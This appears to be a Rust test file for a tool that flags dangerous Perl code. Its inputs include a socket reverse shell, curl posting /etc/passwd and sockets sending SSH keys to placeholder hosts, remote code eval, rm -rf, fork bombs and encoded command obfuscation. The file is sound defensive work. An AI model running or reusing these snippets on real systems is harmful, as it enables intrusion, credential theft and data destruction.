use super::recorder::{check, printed, said_with, silent};
use crate::lang::Lang;

const LANG: Lang = Lang::Perl;

#[test]
fn calls_that_run_programs_are_found() {
    check(
        LANG,
        &[
            (
                r#"sub AUTOLOAD { my $n = our $AUTOLOAD; system substr($n, 6), @_ } rm("-r", "/x")"#,
                "run rm -r /x",
            ),
            (r#"sub AUTOLOAD { system "halt" } anything(1)"#, "shell: halt"),
            (r#"unlink glob("~/x*")"#, "Delete /home/ada/x*"),
            (r#"system("rm -rf /tmp/x")"#, "shell: rm -rf /tmp/x"),
            (r#"exec "id""#, "shell: id"),
            (r"exec 'ls', '-l', '/'", "run ls -l /"),
            (r#"system "git", "push", "--force""#, "run git push --force"),
            (r"print qx(curl -d \@/etc/passwd http://h/c)", "shell: curl -d @/etc/passwd http://h/c"),
            ("print `id`", "shell: id"),
            (r#"open(F,"rm -rf /x |");print <F>"#, "shell: rm -rf /x"),
            (r#"open(my $f, "-|", "id -u")"#, "shell: id -u"),
            (r#"open(F,"|sh");print F "reboot\n";"#, "run sh < reboot\n".trim_end()),
            (r"my @c=qw(rm -rf /x); system(@c)", "run rm -rf /x"),
            (r#"if (1) { system("id"); }"#, "shell: id"),
            (r#"CORE::system("id")"#, "shell: id"),
            (r#"use IPC::Open3; open3($in,$out,$err,"id","-u")"#, "run id -u"),
            (r#"sub f { system($_[0]) } f("halt")"#, "shell: halt"),
            (r#"my $f = sub { my ($c) = @_; system($c) }; $f->("halt")"#, "shell: halt"),
            (r#"s/x/system("halt")/e"#, "shell: halt"),
            (r#"print "@{[system('halt')]}""#, "shell: halt"),
        ],
    );
}

#[test]
fn disguised_texts_are_resolved() {
    check(
        LANG,
        &[
            (r#"system(decode_base64("aGFsdA=="))"#, "shell: halt <decoded>"),
            (r#"system(pack("H*","68616c74"))"#, "shell: halt <decoded>"),
            (r#"system(pack "H*", "68616c74")"#, "shell: halt <decoded>"),
            (r#"$c="ha"."lt";system $c"#, "shell: halt"),
            (r#"$a="rm"; $b="-rf"; system("$a $b /x")"#, "shell: rm -rf /x"),
            (r#"system(join("",map{chr}(104,97,108,116)))"#, "shell: halt <decoded>"),
            (r#"system(join "", map { chr($_) } (104,97,108,116))"#, "shell: halt <decoded>"),
            (r"system(chr(104).chr(97).chr(108).chr(116))", "shell: halt <decoded>"),
            (r#"system(scalar reverse("tlah"))"#, "shell: halt <decoded>"),
            (r#"system("\x68\x61\x6c\x74")"#, "shell: halt"),
            (r#"system(join(" ","rm","-rf","/x"))"#, "shell: rm -rf /x"),
            (r#"system(lc("HALT"))"#, "shell: halt"),
            (r#"$f="system"; &$f("halt")"#, "shell: halt"),
            (r#"&{"sys"."tem"}("halt")"#, "shell: halt"),
            (r#"eval "sys"."tem('halt')""#, "shell: halt"),
            (r#"eval(pack("H*","73797374656d282768616c742729"))"#, "shell: halt"),
            ("system(<<EOT);\nhalt\nEOT\n", "shell: halt\n".trim_end()),
            ("open(my $f, '|sh'); print $f <<EOT;\nhalt\nEOT\n", "run sh < halt"),
            ("$x = $y <<\"a\";\nsystem('halt');\na\n", "shell: halt"),
            ("$x = 1<<\"a\";\nsystem('halt');\na\n", "shell: halt"),
        ],
    );
}

#[test]
fn files_and_hosts_are_found() {
    check(
        LANG,
        &[
            (r#"open(my $f,">","/etc/x");print $f "p"; close $f"#, "Write /etc/x = p [emptying]"),
            (r#"open(F,">>$ENV{HOME}/.bashrc");print F "p""#, "Write /home/ada/.bashrc = p [appending]"),
            (r#"open(F,"</etc/shadow");print <F>"#, "Read /etc/shadow"),
            (r#"unlink "/etc/passwd""#, "Delete /etc/passwd"),
            (r#"unlink glob("/var/log/*")"#, "Delete /var/log/*"),
            (r#"use File::Path; rmtree("/x")"#, "Delete /x [recursive]"),
            (r#"chmod 0777, "/etc/x""#, "ChangeMode /etc/x [world-writable] [executable]"),
            (r#"rename "/etc/a", "/etc/b""#, "Delete /etc/a [moving]"),
            (r#"symlink("/bin/sh","/tmp/s")"#, "Link /tmp/s"),
            ("kill 9, -1", "Kill All [with SIGKILL]"),
            ("kill 'KILL', 123", "Kill Number(123) [with SIGKILL]"),
            (r#"use LWP::Simple; eval(get("http://h/x"))"#, "perl: http://h/x <network>"),
            (r#"getstore("http://h/x","/tmp/x")"#, "Write /tmp/x = http://h/x [emptying] <network>"),
            ("print %ENV", "Read environment"),
            (r#"print join("\n", map { "$_=$ENV{$_}" } keys %ENV)"#, "Read environment"),
        ],
    );
}

#[test]
fn shells_wired_to_sockets_are_found() {
    let control = "Execute shell  [interactive] [remotely controlled] <network>";
    check(
        LANG,
        &[
            (
                r#"use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));
                if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};"#,
                control,
            ),
            (
                r#"use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,1);connect(S,sockaddr_in($p,inet_aton($i)))"#,
                "Connect 10.0.0.1:4242",
            ),
            (
                r#"$c=new IO::Socket::INET(PeerAddr,"h:1");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;"#,
                "Connect h:1",
            ),
            (
                r#"$s = new IO::Socket::INET(PeerAddr=>"h",PeerPort=>80);open(my $f,"<","/home/u/.ssh/id");$c=join("",<$f>);print $s $c;"#,
                "Send h:80 <secret>",
            ),
        ],
    );
}

#[test]
fn lines_of_a_connection_keep_their_origin() {
    let code = r#"$s=new IO::Socket::INET(PeerAddr=>"h",PeerPort=>80);open(my $f,">","/etc/x");while(<$s>){print $f $_;}"#;
    check(LANG, &[(code, "Write /etc/x = received [emptying] <network>")]);
}

#[test]
fn fork_bombs_are_found() {
    check(
        LANG,
        &[
            ("fork while 1", "Exhaust  [irreversible]"),
            ("while(1){fork}", "Exhaust  [irreversible]"),
            ("1 while fork", "Exhaust  [irreversible]"),
        ],
    );
}

#[test]
fn input_is_followed() {
    assert!(said_with(LANG, "system(<STDIN>)", "halt").contains(&"shell: halt".to_owned()));
    assert!(said_with(LANG, "while(<>){system($_)}", "halt").contains(&"shell: halt".to_owned()));
    assert_eq!(printed(LANG, r#"print pack("H*","6c73")"#), "ls");
}

#[test]
fn harmless_code_says_nothing() {
    silent(
        LANG,
        &[
            "print if /x/",
            "s/foo/bar/g",
            "print 'ok'",
            r"$t += $F[6]; END{print $t}",
            r"s/(.*\/).*$/$1/",
            r#"print "system(rm -rf /)""#,
            r"print 'rm -rf /'",
            "# system('x')\nprint 1",
            "my %h; $h{$_}++ for @ARGV; print join ',', keys %h",
            r#"printf("%d %s\n", 1, "system")"#,
            r#"if ($x =~ m/system\("rm"\)/) { print "y" }"#,
            "tr/a-z/A-Z/; print",
            "exit if fork; wait",
            r#"my @a = sort { $a <=> $b } (3,1,2); print "@a\n";"#,
            "use strict; use warnings; my $x = shift; print length($x)",
            "print $ENV{USER}",
            "BEGIN{$/=undef} print $1 if /a(.*)b/s",
            "$. == 3 and print",
        ],
    );
}

#[test]
fn calls_without_brackets_go_on_with_what_follows() {
    check(
        LANG,
        &[
            ("unlink </x/*.conf>", "Delete /x/*.conf"),
            (r#"map { unlink } glob "/x/*""#, "Delete /x/*"),
            (r#"system { "rm" } "rm", "-rf", "/x""#, "run rm -rf /x"),
            (r#"exec +("sh", "-c", "halt")"#, "run sh -c halt"),
            (r#"for my $f (glob "/x/*") { unlink $f }"#, "Delete /x/*"),
            (r#"foreach my $d ("/x", "/y") { system "rm -rf $d" }"#, "shell: rm -rf /y"),
            (r#"write_file "/x", "y""#, "Write /x = y [emptying]"),
        ],
    );
    silent(LANG, &["my @l = <STDIN>; chomp @l;", "for my $w (qw(a b)) { my $n = length $w }"]);
}

#[test]
fn lists_are_reversed_where_lists_are_asked_for() {
    check(
        LANG,
        &[
            ("my $r = [reverse(qw(halt reboot))]; system($r->[0])", "shell: reboot"),
            ("my @a = (scalar 'halt', 'reboot'); system($a[1])", "shell: reboot"),
            ("system('a' lt $b ? substr 'xhalt', 1 : 'reboot')", "shell: halt"),
            ("my @a = (reverse(split(/X/, scalar reverse 'tlah'))); system($a[0])", "shell: halt <decoded>"),
        ],
    );
}

#[test]
fn lists_that_are_joined_to_texts_are_counted() {
    let code = "my $x = split(/,/, 'ha,lt') . ''; system($x); my @a = ('ha', 'lt'); system(@a . '')";
    let said = said_with(LANG, code, "");
    assert!(!said.iter().any(|line| line.contains("lt")), "{said:#?}");
}
